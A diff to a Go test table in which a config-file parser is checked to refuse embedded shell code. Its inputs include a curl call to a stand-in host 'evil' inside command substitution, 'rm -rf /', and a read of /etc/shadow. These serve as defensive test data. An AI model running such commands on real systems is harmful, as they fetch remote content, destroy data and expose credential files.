@@ -68,14 +68,14 @@ func TestUndefinedReferenceIsMissingNotEmpty(t *testing.T) {
 
 func TestRefusesCode(t *testing.T) {
 	for src, want := range map[string]string{
-		"export A=\"$(curl http://evil)\"\n":    "SETTING_REFUSED@f:1:8",
-		"A=`id`\n":                              "SETTING_REFUSED@f:1:1",
-		"rm -rf /\n":                            "SETTING_REFUSED@f:1:1",
-		"A=1; touch /tmp/x\n":                   "SETTING_REFUSED@f:1:6",
-		"if true; then A=1; fi\n":               "SETTING_REFUSED@f:1:1",
-		"A=1 > /tmp/x\n":                        "SETTING_REFUSED@f:1:1",
-		"A=$((1+2))\n":                          "SETTING_REFUSED@f:1:1",
-		"f() { A=1; }\n":                        "SETTING_REFUSED@f:1:1",
+		"export A=\"$(curl http://evil)\"\n":   "SETTING_REFUSED@f:1:8",
+		"A=`id`\n":                             "SETTING_REFUSED@f:1:1",
+		"rm -rf /\n":                           "SETTING_REFUSED@f:1:1",
+		"A=1; touch /tmp/x\n":                  "SETTING_REFUSED@f:1:6",
+		"if true; then A=1; fi\n":              "SETTING_REFUSED@f:1:1",
+		"A=1 > /tmp/x\n":                       "SETTING_REFUSED@f:1:1",
+		"A=$((1+2))\n":                         "SETTING_REFUSED@f:1:1",
+		"f() { A=1; }\n":                       "SETTING_REFUSED@f:1:1",
 		"export A=\"x\nB=<(cat /etc/shadow)\n": "CONFIG_SYNTAX@f:1:10",
 	} {
 		_, fs := Parse("f", []byte(src))
